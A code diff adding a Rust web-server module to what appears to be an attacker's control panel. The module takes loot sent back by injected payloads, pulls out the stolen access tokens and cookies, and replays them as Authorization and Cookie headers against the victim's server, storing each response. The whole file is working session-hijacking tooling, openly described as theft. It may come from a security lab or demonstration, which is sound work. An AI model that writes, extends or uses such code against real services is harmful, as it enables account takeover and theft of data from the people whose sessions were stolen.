@@ -1,0 +1,107 @@
+//! Trying out what was stolen: a request from this server to the victim's, and no browser in it.
+
+use std::sync::Arc;
+
+use axum::extract::rejection::FormRejection;
+use axum::extract::{Form, Path, State};
+use axum::http::{HeaderMap, HeaderName, HeaderValue, StatusCode, header};
+use axum::response::{IntoResponse, Redirect, Response};
+use domain::Replay;
+use serde::Deserialize;
+use serde_json::Value;
+
+use super::Attacker;
+
+/// How much of an answer is kept, in bytes.
+const KEPT: usize = 2 * 1024;
+
+/// What a thief finds in a piece of loot: what to send as which header.
+#[derive(Debug, Default, PartialEq, Eq)]
+pub(super) struct Stolen {
+    pub(super) authorization: String,
+    pub(super) cookie: String,
+}
+
+impl Stolen {
+    /// Looks where payloads put it: `{"localStorage": {"access_token": …}, "cookie": …}`.
+    pub(super) fn in_text(text: &str) -> Self {
+        let found: Value = serde_json::from_str(text).unwrap_or_default();
+        let access_token = found["localStorage"]["access_token"].as_str();
+        Self {
+            authorization: access_token.map(|token| format!("Bearer {token}")).unwrap_or_default(),
+            cookie: found["cookie"].as_str().unwrap_or_default().to_owned(),
+        }
+    }
+}
+
+/// What to send. A field that is empty is a header that is not sent.
+#[derive(Deserialize)]
+pub(super) struct ReplayForm {
+    path: String,
+    #[serde(default)]
+    authorization: String,
+    #[serde(default)]
+    cookie: String,
+}
+
+/// `POST /campaigns/{campaign}/replays`: sends it, notes what came back, and leads to the inbox again.
+pub(super) async fn replay(
+    State(attacker): State<Arc<Attacker>>,
+    Path(name): Path<String>,
+    form: Result<Form<ReplayForm>, FormRejection>,
+) -> Response {
+    let Ok(Form(form)) = form else { return StatusCode::BAD_REQUEST.into_response() };
+    if !form.path.starts_with('/') || attacker.campaigns().find(&name).is_none() {
+        return StatusCode::NOT_FOUND.into_response();
+    }
+    let (status, answer) = send(&attacker, &form).await;
+    let replay = Replay {
+        number: 0,
+        at: attacker.clock.now(),
+        path: form.path,
+        authorization: Some(form.authorization).filter(|value| !value.is_empty()),
+        cookie: Some(form.cookie).filter(|value| !value.is_empty()),
+        status,
+        answer,
+    };
+    attacker.campaigns().add_replay(&name, replay);
+    Redirect::to(&format!("/campaigns/{name}")).into_response()
+}
+
+async fn send(attacker: &Attacker, form: &ReplayForm) -> (Option<u16>, String) {
+    let request = attacker.client.get(format!("{}{}", attacker.victim, form.path)).headers(headers(form));
+    match request.send().await {
+        Ok(response) => {
+            let status = response.status().as_u16();
+            let bytes = response.bytes().await.unwrap_or_default();
+            (Some(status), String::from_utf8_lossy(&bytes[..bytes.len().min(KEPT)]).into_owned())
+        }
+        Err(error) => (None, error.to_string()),
+    }
+}
+
+fn headers(form: &ReplayForm) -> HeaderMap {
+    let named = |name: HeaderName, value: &str| {
+        let value = HeaderValue::try_from(value).ok().filter(|value| !value.is_empty())?;
+        Some((name, value))
+    };
+    [named(header::AUTHORIZATION, &form.authorization), named(header::COOKIE, &form.cookie)]
+        .into_iter()
+        .flatten()
+        .collect()
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn a_thief_finds_what_lies_open_and_nothing_else() {
+        let open = r#"{"localStorage":{"access_token":"eyJ.a.b"},"cookie":"theme=dark"}"#;
+        let stolen = Stolen::in_text(open);
+        assert_eq!((stolen.authorization.as_str(), stolen.cookie.as_str()), ("Bearer eyJ.a.b", "theme=dark"));
+        for text in ["", "{}", "[1]", "not JSON", r#"{"localStorage":{},"cookie":""}"#] {
+            assert_eq!(Stolen::in_text(text), Stolen::default(), "{text}");
+        }
+    }
+}
